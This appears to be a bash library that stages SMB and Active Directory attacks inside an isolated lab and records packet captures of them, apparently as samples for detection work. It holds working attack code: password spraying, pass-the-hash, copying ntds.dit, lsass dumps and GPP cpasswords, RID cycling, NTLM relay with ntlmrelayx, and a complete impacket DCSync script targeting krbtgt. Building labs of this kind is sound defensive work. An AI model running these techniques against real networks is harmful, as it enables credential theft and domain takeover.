# Attacks on credentials, discovery, coercion and relay: functions for record.sh, which sources this.
# shellcheck shell=bash

SMB210=(--option='client min protocol=SMB2_02' --option='client max protocol=SMB2_10')

# plain FUNCTION...: while the server offers 2.1 at most, as impacket and rpcclient encrypt or seal what they can.
plain() { with_option 'server max protocol = SMB2_10' "$@"; }

# as ADDRESS COMMAND...: COMMAND while the client's connections to the server come from another of its addresses.
as() {
  local address=$1
  shift
  ip -n cli addr add "$address/24" dev vc 2>/dev/null || true
  ip -n cli route replace 10.7.0.0/24 dev vc src "$address"
  "$@"
  ip -n cli route replace 10.7.0.0/24 dev vc src 10.7.0.2
}

# serve SCRIPT [ARGUMENT...]: a server of impacket's in the server's namespace; SERVER is its process.
serve() {
  (cd "$LAB/local" && exec ip netns exec srv /usr/bin/python3 "$@" >> "$LAB/clients.log" 2>&1 < /dev/null) &
  SERVER=$!
  sleep 2
}
unserve() {
  kill "$SERVER"
  wait "$SERVER" 2>/dev/null || true
}
example() { echo "/usr/share/doc/python3-impacket/examples/$1.py"; }

sample_bruteforce_success() {
  local password
  start bruteforce-success.pcap
  for password in $(seq 10) Passw0rd; do
    smb //10.7.0.1/share -U "alice%$password" --option='client min protocol=SMB2_02' -c quit
  done
  finish
}

spray() {
  local user
  start password-spray.pcap
  for user in bob carol dave erin frank grace; do
    smb //10.7.0.1/share -U "$user%Winter2024" --option='client min protocol=SMB2_02' -c quit
  done
  finish
}
sample_password_spray() { with_option 'map to guest = never' spray; }

sample_account_lockout() {
  local user
  for user in bob carol dave; do
    echo "$user:x:5433${#user}:65534::/nonexistent:/usr/sbin/nologin" >> "$LAB/passwd"
    printf 'Secret.1\nSecret.1\n' | smbpasswd -c "$LAB/server.conf" -s -a "$user" >/dev/null
  done
  pdbedit -s "$LAB/server.conf" -P 'bad lockout attempt' -C 1 >/dev/null
  start account-lockout.pcap
  for user in bob carol dave bob carol dave; do
    smb //10.7.0.1/share -U "$user%wrong" --option='client min protocol=SMB2_02' -c quit
  done
  finish
}

sample_workstation() {
  start workstation.pcap
  smb //10.7.0.1/share -U "$ALICE" --option='netbios name=FREERDP' "${SMB210[@]}" -c quit
  finish
}

sample_ticket_name() {
  start ticket-name.pcap
  smb //filesrv1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAYBAAAA/share -I 10.7.0.1 -U "$ALICE" "${SMB210[@]}" -c quit
  finish
}

pass_the_hash() {
  start pass-the-hash.pcap
  printf 'use C$\nls\nexit\n' > "$LAB/local/commands"
  impacket smbclient -file "$LAB/local/commands" -hashes ":$(printf Passw0rd | iconv -t UTF-16LE | openssl dgst -md4 -provider legacy -provider default | cut -d' ' -f2)" \
    'alice@10.7.0.1'
  finish
}
sample_pass_the_hash() { plain pass_the_hash; }

# What a copy of the databases leaves, and of a dump; the octets are but the beginnings of such files.
sample_credential_files() {
  mkdir -p "$LAB/more/C/Windows/NTDS" "$LAB/more/ADMIN/Temp" "$LAB/more/SYSVOL/lab.example/Policies/x/Machine/Preferences/Groups" \
    "$LAB/more/finance/keys"
  printf 'ntds' > "$LAB/more/C/Windows/NTDS/ntds.dit"
  printf 'MDMP\223\247' > "$LAB/more/ADMIN/Temp/lsass.dmp"
  printf 'regf\001\000' > "$LAB/more/ADMIN/Temp/qWeRtYuI.tmp"
  printf '<Groups><User><Properties cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw"/></User></Groups>' \
    > "$LAB/more/SYSVOL/lab.example/Policies/x/Machine/Preferences/Groups/Groups.xml"
  printf '\003\331\242\232' > "$LAB/more/finance/keys/all.kdbx"
  start credential-files.pcap
  smb -U "$ALICE" '//10.7.0.1/C$' -c "lcd $LAB/local; get Windows\\NTDS\\ntds.dit"
  smb -U "$ALICE" '//10.7.0.1/ADMIN$' -c "lcd $LAB/local; get Temp\\lsass.dmp; get Temp\\qWeRtYuI.tmp"
  smb -U "$ALICE" //10.7.0.1/SYSVOL -c "lcd $LAB/local; get lab.example\\Policies\\x\\Machine\\Preferences\\Groups\\Groups.xml"
  smb -U "$ALICE" //10.7.0.1/finance -c "lcd $LAB/local; get keys\\all.kdbx"
  finish
}

account_enumeration() {
  start account-enumeration.pcap
  rpc -U "$ALICE" 10.7.0.1 -c 'enumdomusers; querydispinfo; querydispinfo2; enumalsgroups builtin; enumalsgroups domain; enumdomusers'
  rpc -U "$ALICE" 10.7.0.1 -c 'queryusergroups 1000; queryusergroups 1001; queryaliasmem builtin 0x220; queryaliasmem builtin 0x221; queryusergroups 1002; queryaliasmem builtin 0x222'
  impacket netview 'alice:Passw0rd' -target 10.7.0.1 -noloop
  finish
}
sample_account_enumeration() { plain account_enumeration; }

rid_cycling() {
  local sid lookups='' rid
  sid=$(net -s "$LAB/server.conf" getlocalsid | sed 's/.* //')
  for rid in $(seq 1000 3 1059); do
    lookups="$lookups lookupsids $sid-$rid $sid-$((rid + 1)) $sid-$((rid + 2));"
  done
  start rid-cycling.pcap
  rpc -U '' -N 10.7.0.1 -c "$lookups"
  finish
}
sample_rid_cycling() { plain rid_cycling; }

anonymous_shares() {
  start anonymous-shares.pcap
  smb -L //10.7.0.1 -N -U '' "${SMB210[@]}"
  finish
}
sample_anonymous_shares() { plain anonymous_shares; }

share_walk() {
  cat > "$LAB/walk.py" <<'P'
from impacket.smbconnection import SMBConnection, SessionError
smb = SMBConnection('10.7.0.1', '10.7.0.1')
smb.login('alice', 'Passw0rd')
for share in 'admin backup data files home it old private sales scans temp users'.split():
    try:
        smb.connectTree(share)
    except SessionError:
        pass
P
  start share-walk.pcap
  client /usr/bin/python3 "$LAB/walk.py"
  finish
}
sample_share_walk() { plain share_walk; }

sample_host_sweep() {
  local host
  for host in $(seq 100 124); do
    ip -n srv addr add "10.7.0.$host/24" dev vs
  done
  cat > "$LAB/sweep.py" <<'P'
import socket
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
query = bytes.fromhex('123400000001000000000000') + b' CK' + b'A' * 30 + bytes.fromhex('0000210001')
for host in range(100, 125):
    probe.sendto(query, ('10.7.0.%d' % host, 137))
P
  start host-sweep.pcap
  for host in $(seq 100 124); do
    client bash -c "exec 3<>/dev/tcp/10.7.0.$host/445"
  done
  client /usr/bin/python3 "$LAB/sweep.py"
  finish
}

sample_coercion() {
  local script
  script=$HERE/coercion.py
  serve "$script" server 10.7.0.4 10.7.0.2
  start coercion.pcap
  client /usr/bin/python3 "$script" client 10.7.0.4 10.7.0.2
  finish
  unserve
}

# The client's host relays: 10.7.0.3 connects to it, and it to 10.7.0.1. ntlmrelayx imports modules that it does not need here.
sample_relay() {
  local relay module
  mkdir -p "$LAB/none"
  for module in system/Guid:Guid common/cryptography/X509Certificate2:X509Certificate2 system/DateTime:DateTime \
      common/data/hello/KeyCredential:KeyCredential; do
    mkdir -p "$LAB/none/dsinternals/$(dirname "${module%:*}")"
    echo "${module#*:} = None" > "$LAB/none/dsinternals/${module%:*}.py"
  done
  start relay.pcap
  (cd "$LAB/local" && PYTHONPATH=$LAB/none exec ip netns exec cli /usr/bin/python3 "$(example ntlmrelayx)" -t smb://10.7.0.1 -smb2support -i \
    --no-http-server --no-wcf-server --no-raw-server >> "$LAB/clients.log" 2>&1 < <(sleep 60)) & # ends with its input
  relay=$!
  sleep 4
  ip -n srv route add 10.7.0.2/32 dev vs src 10.7.0.3
  timeout 20 ip netns exec srv smbclient -s "$LAB/client.conf" -U "$ALICE" //10.7.0.2/share "${SMB210[@]}" -c quit \
    >> "$LAB/clients.log" 2>&1 < /dev/null || true
  ip -n srv route del 10.7.0.2/32 dev vs
  finish
  kill "$relay"
  wait "$relay" 2>/dev/null || true
}

# A server for which every password is wrong.
sample_refusing_server() {
  local who
  serve "$(example smbserver)" -ip 10.7.0.4 -smb2support -username nobody -password "$RANDOM$RANDOM" BOX "$LAB/share"
  start refusing-server.pcap
  for who in 11:alice 12:bob 13:carol; do
    as "10.7.0.${who%:*}" smb //10.7.0.4/BOX -U "${who#*:}%Passw0rd" "${SMB210[@]}" -c quit
  done
  finish
  unserve
}

# The key of a domain's secrets, and a hive saved to the attacker's share; Samba refuses both.
secret_calls() {
  cat > "$LAB/secrets.py" <<'P'
from impacket.dcerpc.v5 import lsad, transport
rpc = transport.DCERPCTransportFactory(r'ncacn_np:10.7.0.1[\pipe\lsarpc]')
rpc.set_credentials('alice', 'Passw0rd')
dce = rpc.get_dce_rpc()
dce.connect()
dce.bind(lsad.MSRPC_UUID_LSAD)
policy = lsad.hLsarOpenPolicy2(dce)['PolicyHandle']
lsad.hLsarRetrievePrivateData(dce, policy, 'G$BCKUPKEY_PREFERRED')
P
  start secret-calls.pcap
  client /usr/bin/python3 "$LAB/secrets.py"
  impacket reg 'alice:Passw0rd@10.7.0.1' save -keyName 'HKLM\SYSTEM' -o '\\10.7.0.2\share'
  finish
}
sample_secret_calls() { plain secret_calls; }

host_info() {
  start host-info.pcap
  rpc -U "$ALICE" 10.7.0.1 -c 'srvinfo; lsaquery; lsaquery; lsaquery; lsaquery; lsaquery; wkssvc_wkstagetinfo; getdompwinfo'
  finish
}
sample_host_info() { plain host_info; }

# The account of the host CLIENT1 from its own address, and from another's.
sample_identity_jump() {
  echo 'client1$:x:54399:65534::/nonexistent:/usr/sbin/nologin' >> "$LAB/passwd"
  printf 'Secret.1\nSecret.1\n' | smbpasswd -c "$LAB/server.conf" -s -a 'client1$' >/dev/null
  start identity-jump.pcap
  smb //10.7.0.1/public -U 'CLIENT1$%Secret.1' "${SMB210[@]}" -c quit
  as 10.7.0.11 smb //10.7.0.1/public -U 'CLIENT1$%Secret.1' "${SMB210[@]}" -c quit
  finish
}

# Replication of a domain through a pipe of its controller.
sample_dcsync() {
  local ad=$LAB/ad
  stop smbd
  stop nmbd
  samba-tool domain provision --realm=LAB.EXAMPLE --domain=LABWG --adminpass='Passw0rd.AD' --server-role=dc \
    --dns-backend=SAMBA_INTERNAL --host-name=FILESRV --host-ip=10.7.0.1 --targetdir="$ad" \
    --option='interfaces=10.7.0.1/24' --option='bind interfaces only=yes' --option='server max protocol=SMB2_10' \
    --option='vfs objects=dfs_samba4 acl_xattr xattr_tdb' >> "$LAB/clients.log" 2>&1
  cat > "$LAB/dcsync.py" <<'P'
from impacket.dcerpc.v5 import drsuapi, transport
from impacket.dcerpc.v5.dtypes import NULL
rpc = transport.DCERPCTransportFactory(r'ncacn_np:10.7.0.1[\pipe\lsass]')
rpc.set_credentials('Administrator', 'Passw0rd.AD', 'LABWG')
dce = rpc.get_dce_rpc()
dce.set_credentials('Administrator', 'Passw0rd.AD', 'LABWG')
dce.set_auth_level(6)
dce.connect()
dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
bind = drsuapi.DRSBind()
bind['puuidClientDsa'] = drsuapi.NTDSAPI_CLIENT_GUID
extensions = drsuapi.DRS_EXTENSIONS_INT()
extensions['cb'] = len(extensions)
extensions['dwFlags'] = drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION | drsuapi.DRS_EXT_GETCHGREPLY_V6
extensions['SiteObjGuid'] = extensions['ConfigObjGUID'] = drsuapi.NULLGUID
bind['pextClient']['cb'] = len(extensions)
bind['pextClient']['rgb'] = list(extensions.getData())
handle = dce.request(bind)['phDrs']
changes = drsuapi.DRSGetNCChanges()
changes['hDrs'] = handle
changes['dwInVersion'] = changes['pmsgIn']['tag'] = 8
asked = changes['pmsgIn']['V8']
asked['uuidDsaObjDest'] = asked['uuidInvocIdSrc'] = drsuapi.NULLGUID
name = drsuapi.DSNAME()
name['SidLen'] = 0
name['Guid'] = drsuapi.NULLGUID
name['Sid'] = b''
name['StringName'] = 'CN=krbtgt,CN=Users,DC=lab,DC=example\x00'
name['NameLen'] = len(name['StringName']) - 1
name['structLen'] = len(name.getData())
asked['pNC'] = name
asked['pUpToDateVecDest'] = asked['pPartialAttrSet'] = asked['pPartialAttrSetEx1'] = NULL
asked['PrefixTableDest']['pPrefixEntry'] = NULL
asked['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
asked['cMaxObjects'] = 1
asked['ulExtendedOp'] = drsuapi.EXOP_REPL_OBJ
dce.request(changes)
P
  ip netns exec srv samba -D -s "$ad/etc/smb.conf"
  sleep 8
  start dcsync.pcap
  client /usr/bin/python3 "$LAB/dcsync.py"
  finish
}
